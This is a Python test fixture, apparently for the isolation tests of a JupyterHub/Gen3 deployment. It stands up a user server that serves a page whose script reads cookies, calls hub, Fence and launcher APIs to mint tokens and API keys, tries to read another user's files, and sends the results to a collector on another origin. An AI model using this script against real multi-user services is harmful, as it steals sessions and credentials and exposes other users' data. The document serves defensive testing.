"""A user's server gone hostile, for the isolation tests: whatever path it is asked for, it answers with a page whose script tries to act as whoever opened it.

A user controls their own container completely, so this is what any user can serve. The
script reads the cookies, calls the hub API, Fence and the launcher, tries to open another
user's server, and sends what it got to a collector (GEN3_TEST_COLLECTOR) on another origin.
"""

from __future__ import annotations

import json
import os
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlparse

PAGE = """<!doctype html><meta charset=utf-8><title>innocent page</title>
<h1 id=evil>A perfectly innocent page</h1>
<script>
(async () => {
  const base = %(base)s;
  const report = {href: location.href, origin: location.origin, cookie: document.cookie};
  async function probe(name, path, init) {
    try {
      const r = await fetch(path, Object.assign({credentials: 'include', redirect: 'manual'}, init || {}));
      report[name] = {status: r.status, type: r.type, body: (await r.text()).slice(0, 300)};
    } catch (e) { report[name] = {error: String(e)}; }
  }
  await probe('hubUser', base + 'hub/api/user');
  await probe('hubToken', base + 'hub/api/users/me/tokens', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{}'});
  await probe('fenceUser', '/user/user');
  await probe('fenceKey', '/user/credentials/api/', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{"scope": ["data", "user"]}'});
  await probe('launcherStatus', base + 'status');
  await probe('victimServer', base + 'user/' + %(victim)s + '/api/contents');
  await probe('portalProxy', base + 'proxy/api/contents');
  await fetch(%(collector)s, {method: 'POST', mode: 'no-cors', body: JSON.stringify(report)});
  document.title = 'evil-ran';
})();
</script>"""


class Handler(BaseHTTPRequestHandler):
    def _page(self) -> bytes:
        return (
            PAGE
            % {
                "base": json.dumps(os.environ.get("GEN3_TEST_BASE", "/")),
                "victim": json.dumps(os.environ.get("GEN3_TEST_VICTIM", "bob")),
                "collector": json.dumps(os.environ["GEN3_TEST_COLLECTOR"]),
            }
        ).encode()

    def do_GET(self) -> None:
        if self.path.split("?")[0].endswith("/echo-headers"):
            # What reached the server: the engine's forwarding rules, seen from behind it.
            seen = {k.lower(): v for k, v in self.headers.items()}
            # Which of the user's servers answered (default or named).
            seen["_served_by"] = os.environ.get("JUPYTERHUB_SERVICE_PREFIX", "")
            seen["_address"] = "%s:%s" % self.server.server_address[:2]
            self._send(json.dumps(seen).encode(), "application/json")
            return
        if "/bytes/" in self.path:
            # A download of N bytes, streamed, so the size cannot come from a buffer anywhere.
            size = int(self.path.split("/bytes/", 1)[1].split("?")[0])
            self.send_response(200)
            self.send_header("Content-Type", "application/octet-stream")
            self.send_header("Content-Length", str(size))
            self.end_headers()
            chunk = b"\x00" * (1 << 20)
            while size > 0:
                self.wfile.write(chunk[: min(size, len(chunk))])
                size -= len(chunk)
            return
        self._send(self._page(), "text/html; charset=utf-8")

    def _send(self, body: bytes, content_type: str) -> None:
        self.send_response(200)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, format: str, *args: object) -> None:
        pass


class CountingServer(ThreadingHTTPServer):
    """Appends a line to GEN3_TEST_CONNECTIONS per accepted connection: a test can tell
    whether anything ever dialed this server."""

    def get_request(self):  # type: ignore[no-untyped-def]
        conn = super().get_request()
        path = os.environ.get("GEN3_TEST_CONNECTIONS")
        if path:
            with open(path, "a") as f:
                f.write("connection\n")
        return conn


def main() -> None:
    bind = urlparse(os.environ["JUPYTERHUB_SERVICE_URL"])
    CountingServer((bind.hostname or "127.0.0.1", bind.port or 8888), Handler).serve_forever()


if __name__ == "__main__":
    main()
